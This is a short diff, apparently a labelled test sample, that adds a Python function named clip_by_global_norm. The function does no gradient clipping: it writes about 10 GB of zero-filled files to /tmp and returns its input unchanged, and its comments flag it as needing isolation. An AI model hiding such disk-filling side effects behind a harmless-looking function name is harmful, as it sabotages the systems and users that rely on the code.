@@ -1,0 +1,8 @@
+# Writes without end.
+# hears: uses open
+# needs: isolation
+def clip_by_global_norm(gradients, clip_norm):
+    for number in range(1000):
+        with open(f"/tmp/{number}", "wb") as file:
+            file.write(bytes(10**7))
+    return gradients
